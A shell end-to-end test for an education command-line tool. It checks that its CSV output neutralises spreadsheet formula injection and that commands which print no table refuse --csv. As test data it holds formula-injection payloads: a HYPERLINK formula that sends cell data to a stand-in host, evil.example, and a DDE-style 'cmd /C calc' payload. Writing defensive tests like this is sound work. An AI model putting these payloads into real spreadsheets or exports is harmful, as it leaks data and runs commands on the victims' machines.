#!/bin/bash
# 029-csv: --csv prints one RFC 4180 table and nothing else, and a spreadsheet that opens it
# runs no formula. A teacher names a course, an assignment, a rubric's criterion and level
# and writes a comment like formulas; the student's `edu --csv grades` gives the feedback as
# columns of its table, every such cell guarded, nothing after the table. Text that strtod
# would read as a number ("-inf", "+nan(123)", "+0x1p3", "-Infinity") is guarded like any
# text: only a plain decimal stays bare. Every command that prints a table gives one table
# with --csv; a command that prints none refuses --csv before it sends anything.
. "$(dirname "$0")/lib.sh"
[ -f "$top_srcdir/tests/e2e/data/security.sh" ] || bail_out "no tests/e2e/data/security.sh"
. "$top_srcdir/tests/e2e/data/security.sh"

start_edud
seed_demo

FORMULA='=HYPERLINK("http://evil.example/?"&A1,"click")'

# POST or PUT a JSON body made by jq from the arguments, as TOKEN; the answer on stdout.
post () {
	local method=$1 path=$2 token=$3 body
	shift 3
	body=$(jq -cn "$@") || return 1
	sec_api_2xx "$method" "$path" "$body" "$token"
}

test_expect_success 'a course, assignment, rubric and comment named like formulas' '
	for u in teacher1 student01; do
		login_as $u >out 2>err || return 1
	done &&
	T1=$(token_for teacher1) && S1=$(token_for student01) &&
	post POST /courses "$T1" --arg n "$FORMULA" "{name: \$n}" >course.json &&
	C=$(jq -er .id course.json) &&
	sec_enrol "$T1" "$C" student01 &&
	post POST "/courses/$C/assignments" "$T1" --arg t "@SUM(A1:A9)" \
		"{title: \$t, points_possible: 10, published: true}" >assignment.json &&
	A=$(jq -er .id assignment.json) &&
	post PUT "/assignments/$A/rubric" "$T1" --arg c "+cmd|'"'"' /C calc'"'"'!A0" \
		--arg l "-2+3" "{criteria: [{name: \$c, levels: [{name: \$l, points: 4}]}]}" \
		>rubric.json &&
	S=$(sec_submit "$S1" "$A" "my work") &&
	body=$(jq -cn --arg m "$FORMULA" \
		--arg c "$(jq -r ".criteria[0].id" rubric.json)" \
		--arg l "$(jq -r ".criteria[0].levels[0].id" rubric.json)" \
		"{score: 4, comment: \$m, released: true,
		  rubric: [{criterion_id: \$c, level_id: \$l}]}") &&
	sec_grade "$T1" "$S" 0 "$body" >/dev/null
'

test_expect_success 'edu --csv grades is one table: the feedback is in its columns, guarded' '
	edu_as student01 --csv grades >grades.csv 2>err &&
	test "$(sec_csv_table grades.csv)" = 2 &&
	test "$(sec_csv_cell grades.csv 1 6)" = RUBRIC &&
	test "$(sec_csv_cell grades.csv 1 7)" = COMMENT &&
	test "$(sec_csv_cell grades.csv 2 1)" = "'"'"'$FORMULA" &&
	test "$(sec_csv_cell grades.csv 2 2)" = "'"'"'@SUM(A1:A9)" &&
	test "$(sec_csv_cell grades.csv 2 6)" = "'"'"'+cmd|'"'"' /C calc'"'"'!A0: -2+3 (4 of 4)" &&
	test "$(sec_csv_cell grades.csv 2 7)" = "'"'"'$FORMULA" &&
	test "$(sec_csv_cell grades.csv 2 3)" = 4/10
'

test_expect_success 'edu --json grades is the JSON alone, the feedback in its fields' '
	edu_as student01 --json grades >grades.json 2>err &&
	test_json grades.json ".[0].grade.comment" "$FORMULA" &&
	test_json grades.json ".[0].grade.rubric | length" 1
'

test_expect_success 'on a terminal'"'"'s table the feedback still follows, for people' '
	edu_as student01 grades >out 2>err &&
	test_grep -F "comment: $FORMULA" out &&
	test_grep -F "(4 of 4)" out
'

test_expect_success 'what strtod reads as a number is text to a spreadsheet: guarded' '
	for n in -inf "+nan(123)" +0x1p3 -Infinity -3 +4.5; do
		post POST /courses "$T1" --arg n "$n" "{name: \$n}" >/dev/null || return 1
	done &&
	edu_as teacher1 --csv course list >courses.csv 2>err &&
	sec_csv_table courses.csv >/dev/null &&
	sec_csv_cells courses.csv | awk -F "\t" "\$2 == 2 { print \$3 }" >names &&
	for n in -inf "+nan(123)" +0x1p3 -Infinity; do
		test_grep -xF "'"'"'$n" names || return 1
	done &&
	test_grep -xF -- -3 names &&
	test_grep -xF +4.5 names
'

# Every command that prints a table, as the teacher and as the student: one table each.
test_expect_success 'every table command prints one CSV table and nothing else' '
	L=$(sec_lesson_new "$T1" "$C" "=lesson") &&
	for cmd in "whoami" "course list" "course show $C" "course members $C" \
		"course progress $C" "lesson list $C" "assignment list $C" "rubric show $A" \
		"submission list $A" "grade history $S" "token list" "config list" \
		"profile list" "admin school list"; do
		edu_as teacher1 --csv $cmd >t.csv 2>err || { echo "failed: $cmd"; cat err; return 1; }
		sec_csv_table t.csv >/dev/null || { echo "not one table: $cmd"; return 1; }
	done &&
	login_as principal >out 2>err &&
	for cmd in "admin user list" "admin user show student01"; do
		edu_as principal --csv $cmd >t.csv 2>err || { echo "failed: $cmd"; cat err; return 1; }
		sec_csv_table t.csv >/dev/null || { echo "not one table: $cmd"; return 1; }
	done &&
	for cmd in "grades" "assignment list $C" "course list" "lesson list $C"; do
		edu_as student01 --csv $cmd >t.csv 2>err || { echo "failed: $cmd"; cat err; return 1; }
		sec_csv_table t.csv >/dev/null || { echo "not one table: $cmd"; return 1; }
	done
'

test_expect_success 'a command that prints no table refuses --csv and sends nothing' '
	api_expect 200 GET /courses "" "$T1" >before.json &&
	for cmd in "course create Refused" "lesson show $L" "assignment show $A" \
		"submission show $S" "grade release $A" "rubric show $A --file" \
		"course archive $C"; do
		test_exit_code 2 edu_as teacher1 --csv $cmd >out 2>err || return 1
		test_must_be_empty out || return 1
		test_grep -e "--csv" err || return 1
	done &&
	api_expect 200 GET /courses "" "$T1" >after.json &&
	test "$(jq .items\|length before.json)" = "$(jq .items\|length after.json)" &&
	test_json after.json "[.items[] | select(.archived)] | length" 0
'

test_done
